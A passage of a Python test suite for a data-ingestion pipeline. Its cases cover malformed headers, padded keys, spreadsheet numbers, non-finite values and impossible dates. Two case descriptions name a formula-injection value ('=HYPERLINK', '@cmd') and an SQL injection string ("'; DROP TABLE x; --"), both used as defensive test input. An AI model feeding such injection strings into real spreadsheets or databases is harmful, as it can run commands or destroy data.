    rows[-1]["account_name"] = f'{names[0]}\nsecond line, "quoted"'
    append_rows(path, rows)
    tickets = entity_file(landing, "support/tickets")
    ticket = rows_with(landing, "support/tickets", f"T-{prefix}", [{"category": names[0]}])
    ticket[0]["account_id"] = rows[0]["account_id"]
    append_rows(tickets, ticket)
    total = data_lines(path)
    stored = tuple(
        ("crm/accounts", row["account_id"], "account_name", row["account_name"]) for row in rows
    )
    return Expected(
        "crm/accounts",
        relative(landing, path),
        file_counts=(total, total, 0),
        stored=(*stored, ("support/tickets", ticket[0]["ticket_id"], "category", names[0])),
    )


@case("formula_text", "names like =HYPERLINK(..), +SUM(..), @cmd stored unchanged")
def _formula_text(landing: Path) -> Expected:
    return _text_case(landing, "ACC-FORMULA", _FORMULAS)


@case("sql_text", "names like '; DROP TABLE x; -- stored unchanged")
def _sql_text(landing: Path) -> Expected:
    return _text_case(landing, "ACC-SQL", _SQL_TEXT)


@case("non_latin_text", "names in Greek, Arabic and Japanese script stored unchanged")
def _non_latin_text(landing: Path) -> Expected:
    return _text_case(landing, "ACC-UNICODE", _NON_LATIN)


@case("dotdot_names_ignored", "files and folders named with '..' are not landing files")
def _dotdot_names(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    garbage = b"\x00\xff not a landing file"
    (path.parent / "..accounts.csv").write_bytes(garbage)
    (path.parent / "accounts.csv..").write_bytes(garbage)
    for name in ("..2026-12-01", "2026-12-01.."):
        folder = landing / name / "crm"
        folder.mkdir(parents=True)
        (folder / "accounts.csv").write_bytes(garbage)
    total = data_lines(path)
    return Expected("crm/accounts", relative(landing, path), file_counts=(total, total, 0))


@case("parquet_wrong_types", "tickets.parquet with created_at as epoch integers")
def _parquet_wrong_types(landing: Path) -> Expected:
    path = entity_file(landing, "support/tickets")
    header, rows = read_table(path)
    path.unlink()
    target = path.with_name("tickets.parquet")
    write_parquet(
        target,
        header,
        rows,
        created_at="CAST(epoch(CAST(created_at AS TIMESTAMPTZ)) AS BIGINT)",
        csat="TRY_CAST(csat AS DOUBLE)",
    )
    return Expected(
        "support/tickets",
        relative(landing, target),
        quarantined=tuple(
            Quarantined(relative(landing, target), line, ("numeric_timestamp:created_at",))
            for line in range(1, len(rows) + 1)
        ),
        file_counts=(len(rows), 0, len(rows)),
    )


@case("parquet_native_types", "accounts.parquet with native types and one fractional count")
def _parquet_native_types(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    header, rows = read_table(path)
    rows = [*rows, *rows_with(landing, "crm/accounts", "ACC-PQ", [{"employee_count": "2.5"}])]
    path.unlink()
    target = path.with_name("accounts.parquet")
    write_parquet(
        target,
        header,
        rows,
        employee_count="TRY_CAST(employee_count AS DOUBLE)",
        annual_revenue="TRY_CAST(annual_revenue AS DECIMAL(18, 2))",
        open_roles="TRY_CAST(open_roles AS INTEGER)",
        created_at="CAST(created_at AS TIMESTAMPTZ)",
        updated_at="CAST(updated_at AS TIMESTAMP)",
        last_funding_at="TRY_CAST(last_funding_at AS DATE)",
        is_deleted="TRY_CAST(is_deleted AS BOOLEAN)",
    )
    file = relative(landing, target)
    return Expected(
        "crm/accounts",
        file,
        quarantined=(Quarantined(file, len(rows), ("invalid_integer:employee_count",)),),
        file_counts=(len(rows), len(rows) - 1, 1),
        stored=(("crm/accounts", rows[0]["account_id"], "account_name", rows[0]["account_name"]),),
    )


# --------------------------------------------------------------------------------------------
# Nothing silently changed (issue 17): headers, keys, numbers and dates that used to load as
# something else


def _rename_header(landing: Path, entity: str, renames: dict[str, str]) -> tuple[Path, int]:
    """Rename header names (as written, no normalisation) in every export's file of
    ``entity``; (the newest file, its row count)."""
    source, name = entity.split("/")
    for path in sorted(landing.glob(f"*/{source}/{name}.csv")):
        header, rows = read_table(path)
        renamed = [{renames.get(k, k): v for k, v in row.items()} for row in rows]
        write_table(path, [renames.get(n, n) for n in header], renamed)
    path = entity_file(landing, entity)
    return path, data_lines(path)


def _first_row_stored(path: Path, column: str, written: str, extras: str | None) -> tuple:
    """What the newest file's first row must store (none when the file has no rows)."""
    _, rows = read_table(path)
    if not rows:
        return ()
    key = rows[0]["account_id"]
    value = rows[0][written] if extras is None else None
    return (("crm/accounts", key, column, value), ("crm/accounts", key, "_extra_columns", extras))


def _header_still_matches(landing: Path, renames: dict[str, str], column: str) -> Expected:
    path, total = _rename_header(landing, "crm/accounts", renames)
    return Expected(
        "crm/accounts",
        relative(landing, path),
        file_counts=(total, total, 0),
        stored=_first_row_stored(path, column, renames[column], None),
    )


@case("header_zero_width_space", "accounts.csv header 'country' followed by a zero-width space")
def _header_zero_width_space(landing: Path) -> Expected:
    return _header_still_matches(landing, {"country": "country\u200b"}, "country")


@case("header_bom_mid_line", "accounts.csv with a byte-order mark inside the header line")
def _header_bom_mid_line(landing: Path) -> Expected:
    return _header_still_matches(landing, {"country": "\ufeffcountry"}, "country")


@case("header_fullwidth_letters", "accounts.csv header 'ｃｏｕｎｔｒｙ' (full-width, NFKC)")
def _header_fullwidth(landing: Path) -> Expected:
    return _header_still_matches(landing, {"country": "ｃｏｕｎｔｒｙ"}, "country")


@case("header_case_and_separators", "accounts.csv headers 'Employee-Count' and 'EmployeeCount'")
def _header_case_and_separators(landing: Path) -> Expected:
    return _header_still_matches(landing, {"employee_count": "Employee-Count"}, "employee_count")


@case("header_camel_case", "accounts.csv header 'BusinessModel' (an API-style field name)")
def _header_camel_case(landing: Path) -> Expected:
    return _header_still_matches(landing, {"business_model": "BusinessModel"}, "business_model")


@case("header_nbsp_inside", "accounts.csv header 'employee<NBSP>count' (a spreadsheet's space)")
def _header_nbsp_inside(landing: Path) -> Expected:
    return _header_still_matches(
        landing, {"employee_count": "employee\u00a0count"}, "employee_count"
    )


def _header_near_miss(landing: Path, written: str, column: str, why: str) -> Expected:
    path, total = _rename_header(landing, "crm/accounts", {column: written})
    _, rows = read_table(path)
    extras = (
        json.dumps({written: rows[0][written]}, separators=(",", ":"), ensure_ascii=False)
        if rows
        else None
    )
    file = relative(landing, path)
    return Expected(
        "crm/accounts",
        file,
        file_counts=(total, total, 0),
        stored=_first_row_stored(path, column, written, extras) if rows else (),
        warnings=(
            rf"^{re.escape(file)}: header {re.escape(repr(written))} is probably the column "
            rf"{column} \({why}\) but is not read as it, so {column} is NULL in every row",
        ),
    )


@case("header_synonym_employees", "accounts.csv with 'employees' for employee_count: a warning")
def _header_synonym_employees(landing: Path) -> Expected:
    return _header_near_miss(landing, "employees", "employee_count", "a known synonym")


@case("header_synonym_num_employees", "accounts.csv with 'num_employees': a warning")
def _header_synonym_num_employees(landing: Path) -> Expected:
    return _header_near_miss(landing, "num_employees", "employee_count", "a known synonym")


@case("header_synonym_salesforce", "accounts.csv with Salesforce's 'NumberOfEmployees': a warning")
def _header_synonym_salesforce(landing: Path) -> Expected:
    return _header_near_miss(landing, "NumberOfEmployees", "employee_count", "a known synonym")


@case("header_typo", "accounts.csv header 'countyr' (two letters swapped): a warning")
def _header_typo(landing: Path) -> Expected:
    return _header_near_miss(landing, "countyr", "country", "1 edit\\(s\\) away")


@case("header_synonym_mapped", "a mapping profile declares 'employees' as employee_count")
def _header_synonym_mapped(landing: Path) -> Expected:
    path, total = _rename_header(landing, "crm/accounts", {"employee_count": "employees"})
    header, rows = read_table(path)
    columns = {name: name for name in header if name != "employees"}
    columns["employee_count"] = "employees"
    profile = {
        "name": "ours",
        "entities": {"crm/accounts": {"file": "accounts", "columns": columns}},
    }
    (landing / "mappings").mkdir(exist_ok=True)
    (landing / "mappings" / "ours.yaml").write_text(json.dumps(profile), encoding="utf-8")
    (landing / "landing.yaml").write_text("sources:\n  crm: mappings/ours.yaml\n", encoding="utf-8")
    key = rows[0]["account_id"]
    return Expected(
        "crm/accounts",
        relative(landing, path),
        file_counts=(total, total, 0),
        stored=(("crm/accounts", key, "employee_count", rows[0]["employees"]),),
    )


@case("optional_column_dropped", "a newer accounts export without the 'country' column")
def _optional_column_dropped(landing: Path) -> Expected:
    previous = entity_file(landing, "crm/accounts")
    header, rows = read_table(previous)
    newer = (date.fromisoformat(newest_export(landing)) + timedelta(days=1)).isoformat()
    path = landing / newer / "crm" / "accounts.csv"
    write_table(path, [name for name in header if name != "country"], rows)
    file = relative(landing, path)
    return Expected(
        "crm/accounts",
        file,
        file_counts=(len(rows), len(rows), 0),
        warnings=(
            rf"^{re.escape(file)}: optional column\(s\) country missing, which the previous "
            rf"export {re.escape(relative(landing, previous))} had",
        ),
    )


@case("header_twice_after_folding", "accounts.csv with 'country' and 'Country<ZWSP>'")
def _header_twice_after_folding(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    header, rows = read_table(path)
    write_table(path, [*header, "Country\u200b"], [row | {"Country\u200b": "FR"} for row in rows])
    return Expected(
        "crm/accounts",
        relative(landing, path),
        failure=(r"column 'country' appears twice in the header",),
    )


@case("header_required_synonym", "accounts.csv with 'Id' for account_id: fails, naming the guess")
def _header_required_synonym(landing: Path) -> Expected:
    path, _ = _rename_header(landing, "crm/accounts", {"account_id": "Id"})
    return Expected(
        "crm/accounts",
        relative(landing, path),
        failure=(
            r"required column\(s\) account_id missing",
            r"'Id' is probably account_id \(a known synonym\)",
        ),
    )


@case("excel_sep_line", "accounts.csv starting with Excel's 'sep=,' line")
def _excel_sep_line(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    path.write_text("sep=,\n" + path.read_text(encoding="utf-8"), encoding="utf-8")
    return Expected(
        "crm/accounts",
        relative(landing, path),
        failure=(r"required column\(s\) account_id, account_name, created_at, updated_at missing",),
    )


@case("trailing_comma_column", "tickets.csv whose lines end with a comma (an unnamed column)")
def _trailing_comma_column(landing: Path) -> Expected:
    path = entity_file(landing, "support/tickets")
    lines = path.read_text(encoding="utf-8").splitlines()
    path.write_text("".join(f"{line},\n" for line in lines), encoding="utf-8")
    total = len(lines) - 1
    key = template_row(landing, "support/tickets")["ticket_id"]
    return Expected(
        "support/tickets",
        relative(landing, path),
        file_counts=(total, total, 0),
        stored=(("support/tickets", key, "_extra_columns", '{"":null}'),),
    )


# Keys


@case("keys_whitespace_only", "account ids that are only a tab, CR, NBSP or zero-width space")
def _keys_whitespace_only(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    rows = rows_with(landing, "crm/accounts", "ACC-WS", [{}] * 5)
    for row, key in zip(rows, ["\t", "\r\n", "\u00a0", "\u200b", " \u3000\ufeff "], strict=True):
        row["account_id"] = key
    rules = ["missing_required_value:account_id"] * len(rows)
    return loaded_with_quarantine("crm/accounts", landing, path, rows, rules)


@case("keys_collide_after_trim", "'ACC-DUP', 'ACC-DUP ' and '<ZWSP>ACC-DUP' in one file")
def _keys_collide_after_trim(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    rows = rows_with(landing, "crm/accounts", "ACC-DUP", [{}] * 3)
    for row, key in zip(rows, ["ACC-DUP", "ACC-DUP ", "\u200bACC-DUP\u00a0"], strict=True):
        row["account_id"] = key
    rules = ["duplicate_key_in_file:account_id"] * 3
    return loaded_with_quarantine("crm/accounts", landing, path, rows, rules)


@case("keys_padded_stored_trimmed", "account 'ACC-PAD<NBSP>' and a ticket of 'ACC-PAD'")
def _keys_padded_stored_trimmed(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    append_rows(
        path, rows_with(landing, "crm/accounts", "ACC-PAD", [{"account_id": "ACC-PAD\u00a0"}])
    )
    tickets = entity_file(landing, "support/tickets")
    append_rows(
        tickets, rows_with(landing, "support/tickets", "T-PAD", [{"account_id": "ACC-PAD"}])
    )
    total = data_lines(path)
    return Expected(
        "crm/accounts",
        relative(landing, path),
        file_counts=(total, total, 0),
        stored=(
            ("crm/accounts", "ACC-PAD", "account_id", "ACC-PAD"),
            ("support/tickets", "T-PAD-1", "account_id", "ACC-PAD"),
        ),
    )


@case("foreign_keys_padded", "tickets of 'ACC-1<TAB>' and '<ZWSP>ACC-2': their accounts")
def _foreign_keys_padded(landing: Path) -> Expected:
    tickets = entity_file(landing, "support/tickets")
    rows = rows_with(
        landing,
        "support/tickets",
        "T-FKPAD",
        [{"account_id": "ACC-1\t"}, {"account_id": "\u200bACC-2"}],
    )
    append_rows(tickets, rows)
    total = data_lines(tickets)
    return Expected(
        "support/tickets",
        relative(landing, tickets),
        file_counts=(total, total, 0),
        stored=(
            ("support/tickets", "T-FKPAD-1", "account_id", "ACC-1"),
            ("support/tickets", "T-FKPAD-2", "account_id", "ACC-2"),
        ),
    )


@case("keys_case_sensitive", "'ACC-CASE' and 'acc-case': two accounts (a documented choice)")
def _keys_case_sensitive(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    rows = rows_with(
        landing, "crm/accounts", "X", [{"account_id": "ACC-CASE"}, {"account_id": "acc-case"}]
    )
    append_rows(path, rows)
    total = data_lines(path)
    file = relative(landing, path)
    return Expected(
        "crm/accounts",
        file,
        file_counts=(total, total, 0),
        stored=(
            ("crm/accounts", "ACC-CASE", "account_id", "ACC-CASE"),
            ("crm/accounts", "acc-case", "account_id", "acc-case"),
        ),
        warnings=(
            rf"^{re.escape(file)}: 1 account_id value\(s\) differ from another only by case "
            r"\(e.g. 'ACC-CASE' / 'acc-case'\); keys are case-sensitive",
        ),
    )


@case("foreign_key_other_case", "a ticket of 'acc-1' (the account is 'ACC-1'): an orphan")
def _foreign_key_other_case(landing: Path) -> Expected:
    tickets = entity_file(landing, "support/tickets")
    rows = rows_with(landing, "support/tickets", "T-CASE", [{"account_id": "acc-1"}])
    return loaded_with_quarantine(
        "support/tickets", landing, tickets, rows, ["orphan_foreign_key:account_id"]
    )


@case("name_only_invisible", "account_name of only a zero-width space and an NBSP")
def _name_only_invisible(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    rows = rows_with(landing, "crm/accounts", "ACC-INVIS", [{"account_name": "\u200b\u00a0"}])
    return loaded_with_quarantine(
        "crm/accounts", landing, path, rows, ["missing_required_value:account_name"]
    )


@case("code_padded_stored_trimmed", "country 'US<NBSP>' and currency ' EUR': stored trimmed")
def _code_padded(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    append_rows(
        path,
        rows_with(
            landing, "crm/accounts", "ACC-CODE", [{"country": "US\u00a0", "currency": " EUR"}]
        ),
    )
    total = data_lines(path)
    return Expected(
        "crm/accounts",
        relative(landing, path),
        file_counts=(total, total, 0),
        stored=(
            ("crm/accounts", "ACC-CODE-1", "country", "US"),
            ("crm/accounts", "ACC-CODE-1", "currency", "EUR"),
        ),
    )


# Numbers


def _bad_values(
    landing: Path, entity: str, prefix: str, column: str, values: list[str], rule: str
) -> Expected:
    path = entity_file(landing, entity)
    rows = rows_with(landing, entity, prefix, [{column: v} for v in values])
    return loaded_with_quarantine(entity, landing, path, rows, [f"{rule}:{column}"] * len(rows))


def _add_rate(landing: Path, currency: str, rate: str) -> None:
    """A rate for ``currency`` unless the zone has some already (the generated one does)."""
    header, rows = read_table(landing / "fx_rates.csv")
    if any(row["currency"] == currency for row in rows):
        return
    write_table(
        landing / "fx_rates.csv",
        header,
        [*rows, {"date": "2026-01-01", "currency": currency, "usd_per_unit": rate}],
    )


@case("money_overflow_after_fx", "annual_revenue 1.5e308 GBP: finite in the file, inf in USD")
def _money_overflow_after_fx(landing: Path) -> Expected:
    _add_rate(landing, "GBP", "1.27")
    path = entity_file(landing, "crm/accounts")
    rows = rows_with(
        landing,
        "crm/accounts",
        "ACC-INF",
        [
            {"annual_revenue": "1.5e308", "currency": "GBP"},
            {"annual_revenue": "1.5e308", "currency": "USD"},
        ],
    )
    lines = append_rows(path, rows)
    invoices = entity_file(landing, "billing/invoices")
    invoice_lines = append_rows(
        invoices,
        rows_with(landing, "billing/invoices", "I-INF", [{"amount": "1.7e308", "currency": "EUR"}]),
    )
    total = data_lines(path)
    return Expected(
        "crm/accounts",
        relative(landing, path),
        quarantined=quarantined(path, landing, lines[:1], ["non_finite_number:annual_revenue"])
        + quarantined(invoices, landing, invoice_lines, ["non_finite_number:amount"]),
        file_counts=(total, total - 1, 1),
        stored=(("crm/accounts", "ACC-INF-2", "annual_revenue", "1.5e+308"),),
    )


@case("number_overflow_in_text", "mrr '1e400' and '-2e308' (beyond a double)")
def _number_overflow_in_text(landing: Path) -> Expected:
    return _bad_values(
        landing, "billing/subscriptions", "S-BIG", "mrr", ["1e400", "-2e308"], "non_finite_number"
    )


@case("number_infinity_words", "annual_revenue 'inf', 'Infinity', '-inf', 'nan', '+NaN'")
def _number_infinity_words(landing: Path) -> Expected:
    return _bad_values(
        landing,
        "crm/accounts",
        "ACC-NF",
        "annual_revenue",
        ["inf", "Infinity", "-inf", "nan", "+NaN"],
        "non_finite_number",
    )


@case("parquet_double_nan", "invoices.parquet with a DOUBLE amount column holding NaN and inf")
def _parquet_double_nan(landing: Path) -> Expected:
    path = entity_file(landing, "billing/invoices")
    header, rows = read_table(path)
    rows = [
        *rows,
        *rows_with(landing, "billing/invoices", "I-NAN", [{"amount": "nan"}, {"amount": "inf"}]),
    ]
    path.unlink()
    target = path.with_name("invoices.parquet")
    write_parquet(target, header, rows, amount="TRY_CAST(amount AS DOUBLE)")
    file = relative(landing, target)
    return Expected(
        "billing/invoices",
        file,
        quarantined=(
            Quarantined(file, len(rows) - 1, ("non_finite_number:amount",)),
            Quarantined(file, len(rows), ("non_finite_number:amount",)),
        ),
        file_counts=(len(rows), len(rows) - 2, 2),
    )


@case("number_spreadsheet_forms", "annual_revenue '1 200', '1.200,50', '(100)', '1,5E+3'")
def _number_spreadsheet_forms(landing: Path) -> Expected:
    return _bad_values(
        landing,
        "crm/accounts",
        "ACC-SHEET",
        "annual_revenue",
        ["1 200", "1.200,50", "(100)", "1,5E+3"],
        "invalid_number",
    )


@case("number_excel_errors", "mrr '#VALUE!', '#N/A', '#DIV/0!', '#REF!'")
def _number_excel_errors(landing: Path) -> Expected:
    return _bad_values(
        landing,
        "billing/subscriptions",
        "S-XLERR",
        "mrr",
        ["#VALUE!", "#N/A", "#DIV/0!", "#REF!"],
        "invalid_number",
    )


@case("integer_spreadsheet_forms", "employee_count '1.2E+03', '1,200', '80%'")
def _integer_spreadsheet_forms(landing: Path) -> Expected:
    return _bad_values(
        landing,
        "crm/accounts",
        "ACC-XLINT",
        "employee_count",
        ["1.2E+03", "1,200", "80%"],
        "invalid_integer",
    )


@case("number_nbsp_padded", "employee_count '<NBSP>120' (a spreadsheet pad): the number 120")
def _number_nbsp_padded(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    append_rows(
        path, rows_with(landing, "crm/accounts", "ACC-PADNUM", [{"employee_count": "\u00a0120"}])
    )
    total = data_lines(path)
    return Expected(
        "crm/accounts",
        relative(landing, path),
        file_counts=(total, total, 0),
        stored=(("crm/accounts", "ACC-PADNUM-1", "employee_count", "120"),),
    )


@case("etl_null_markers", "last_funding_at 'NULL', '\\N', 'N/A' (ETL tools' NULL markers)")
def _etl_null_markers(landing: Path) -> Expected:
    return _bad_values(
        landing,
        "crm/accounts",
        "ACC-NULLTXT",
        "last_funding_at",
        ["NULL", "\\N", "N/A"],
        "invalid_timestamp",
    )


@case("etl_null_marker_boolean", "is_deleted '\\N' and 'null'")
def _etl_null_marker_boolean(landing: Path) -> Expected:
    return _bad_values(
        landing, "crm/accounts", "ACC-NULLBOOL", "is_deleted", ["\\N", "null"], "invalid_boolean"
    )


# Dates


@case("dates_feb_29_non_leap", "created_at 2026-02-29 (no such day); 2024-02-29 loads")
def _dates_feb_29(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    rows = rows_with(
        landing,
        "crm/accounts",
        "ACC-LEAP",
        [{"created_at": "2026-02-29"}, {"created_at": "2024-02-29"}],
    )
    lines = append_rows(path, rows)
    total = data_lines(path)
    return Expected(
        "crm/accounts",
        relative(landing, path),
        quarantined=quarantined(path, landing, lines[:1], ["impossible_timestamp:created_at"]),
        file_counts=(total, total - 1, 1),
        stored=(("crm/accounts", "ACC-LEAP-2", "created_at", "2024-02-29 00:00:00"),),
    )


@case("dates_hour_24", "updated_at 2026-11-20T24:00:00 (DuckDB alone reads the next day)")
def _dates_hour_24(landing: Path) -> Expected:
    return _bad_values(
        landing,
        "crm/accounts",
        "ACC-H24",
        "updated_at",
        ["2026-11-20T24:00:00", "2026-11-20 24:00Z"],
        "impossible_timestamp",
    )


@case("dates_leap_second", "occurred_at 2016-12-31T23:59:60Z (a leap second)")
def _dates_leap_second(landing: Path) -> Expected:
    return _bad_values(
        landing,
        "crm/activities",
        "AC-LEAPSEC",
        "occurred_at",
        ["2016-12-31T23:59:60Z"],
        "impossible_timestamp",
    )


@case("dates_fields_out_of_range", "issued_at month 13, day 32, minute 60, day 00")
def _dates_fields_out_of_range(landing: Path) -> Expected:
    return _bad_values(
        landing,
        "billing/invoices",
        "I-FIELD",
        "issued_at",
        ["2026-13-01", "2026-01-32", "2026-11-20T10:60:00", "2026-11-00"],
        "impossible_timestamp",
    )


@case("dates_offset_out_of_range", "created_at offsets +25:00, -14:30, +02:75, +1500")
def _dates_offset_out_of_range(landing: Path) -> Expected:
    return _bad_values(
        landing,
        "support/tickets",
        "T-OFFSET",
        "created_at",
        [
            "2026-09-01T10:00:00+25:00",
            "2026-09-01T10:00:00-14:30",
            "2026-09-01T10:00:00+02:75",
            "2026-09-01T10:00+1500",
        ],
        "offset_out_of_range",
    )


@case("dates_extreme_offsets_kept", "offsets +14:00 and -12:00 (Kiribati, Baker Island) load")
def _dates_extreme_offsets(landing: Path) -> Expected:
    tickets = entity_file(landing, "support/tickets")
    rows = rows_with(
        landing,
        "support/tickets",
        "T-EDGE",
        [{"created_at": "2026-09-01T10:00:00+14:00"}, {"created_at": "2026-09-01T10:00:00-12:00"}],
    )
    append_rows(tickets, rows)
    total = data_lines(tickets)
    return Expected(
        "support/tickets",
        relative(landing, tickets),
        file_counts=(total, total, 0),
        stored=(
            ("support/tickets", "T-EDGE-1", "created_at", "2026-08-31 20:00:00"),
            ("support/tickets", "T-EDGE-2", "created_at", "2026-09-01 22:00:00"),
        ),
    )


@case("dates_instants_exact", "offsets and fractional seconds keep their instant exactly")
def _dates_instants_exact(landing: Path) -> Expected:
    values = {
        "2026-11-20T10:00:00.123456+05:30": "2026-11-20 04:30:00.123456",
        "2026-11-20T10:00:00.5-03:00": "2026-11-20 13:00:00.5",
        "2026-11-20 23:30+0200": "2026-11-20 21:30:00",
        "2026-11-20T10:00:00.123456000Z": "2026-11-20 10:00:00.123456",
        "2026-11-20T00:00:00-01": "2026-11-20 01:00:00",
        "2026-11-20T10:00:00.000001Z": "2026-11-20 10:00:00.000001",
    }
    path = entity_file(landing, "crm/activities")
    rows = rows_with(landing, "crm/activities", "AC-EXACT", [{"occurred_at": v} for v in values])
    append_rows(path, rows)
    total = data_lines(path)
    return Expected(
        "crm/activities",
        relative(landing, path),
        file_counts=(total, total, 0),
        stored=tuple(
            ("crm/activities", f"AC-EXACT-{i}", "occurred_at", utc)
            for i, utc in enumerate(values.values(), 1)
        ),
    )


@case("dates_nanoseconds", "occurred_at .123456789 (DuckDB would drop the nanoseconds)")
def _dates_nanoseconds(landing: Path) -> Expected:
    return _bad_values(
        landing,
        "crm/activities",
        "AC-NANO",
        "occurred_at",
        ["2026-10-01T08:00:00.123456789Z", "2026-10-01T08:00:00.0000001Z"],
        "timestamp_precision_loss",
    )


@case("dates_sentinel_low", "last_funding_at 0001-01-01, 1899-12-30 (a spreadsheet's day 0)")
def _dates_sentinel_low(landing: Path) -> Expected:
    return _bad_values(
        landing,
        "crm/accounts",
        "ACC-SENT-LO",
        "last_funding_at",
        ["0001-01-01", "1899-12-30", "1000-01-01T00:00:00Z"],
        "sentinel_date",
    )


@case("dates_sentinel_high", "ended_at 9999-12-31, 2999-01-01T00:00:00Z, 2101-01-01")
def _dates_sentinel_high(landing: Path) -> Expected:
    return _bad_values(
        landing,
        "billing/subscriptions",
        "S-SENT-HI",
        "ended_at",
        ["9999-12-31", "2999-01-01T00:00:00Z", "2101-01-01"],
        "sentinel_date",
    )


@case("dates_epoch_numbers", "created_at 1700000000000 (ms), 1700000000.5, 45000 (Excel), 20261120")
def _dates_epoch_numbers(landing: Path) -> Expected:
    return _bad_values(
        landing,
        "crm/opportunities",
        "O-EPOCH",
        "created_at",
        ["1700000000000", "1700000000.5", "45000", "20261120"],
        "numeric_timestamp",
    )


@case("dates_named_zones", "created_at with 'CET', '[Europe/Paris]', ' UTC' zone names")
def _dates_named_zones(landing: Path) -> Expected:
    return _bad_values(
        landing,
        "crm/opportunities",
        "O-ZONE",
        "created_at",
        ["2026-01-05T10:00:00 CET", "2026-01-05T10:00:00+01:00[Europe/Paris]", "2026-01-05 UTC"],
        "invalid_timestamp",
    )


@case("parquet_sentinel_date", "accounts.parquet with a DATE last_funding_at of 9999-12-31")
def _parquet_sentinel_date(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    header, rows = read_table(path)
    rows = [
        *rows,
        *rows_with(landing, "crm/accounts", "ACC-PQS", [{"last_funding_at": "9999-12-31"}]),
    ]
    path.unlink()
    target = path.with_name("accounts.parquet")
    write_parquet(target, header, rows, last_funding_at="TRY_CAST(last_funding_at AS DATE)")
    file = relative(landing, target)
    return Expected(
        "crm/accounts",
        file,
        quarantined=(Quarantined(file, len(rows), ("sentinel_date:last_funding_at",)),),
        file_counts=(len(rows), len(rows) - 1, 1),
    )


@case("repeated_header_row", "subscriptions.csv with its header repeated mid-file (cat of exports)")
def _repeated_header_row(landing: Path) -> Expected:
    path = entity_file(landing, "billing/subscriptions")
    header, _ = read_table(path)
    row = {name: name for name in header}
    rules = (
        "orphan_foreign_key:account_id",
        "invalid_number:mrr",
        "pattern_mismatch:currency",
        "unknown_currency:currency",
        "invalid_timestamp:started_at",
        "invalid_timestamp:ended_at",
        "value_not_allowed:status",
        "invalid_timestamp:updated_at",
        "invalid_boolean:is_deleted",
    )
    return loaded_with_quarantine("billing/subscriptions", landing, path, [row], [rules])
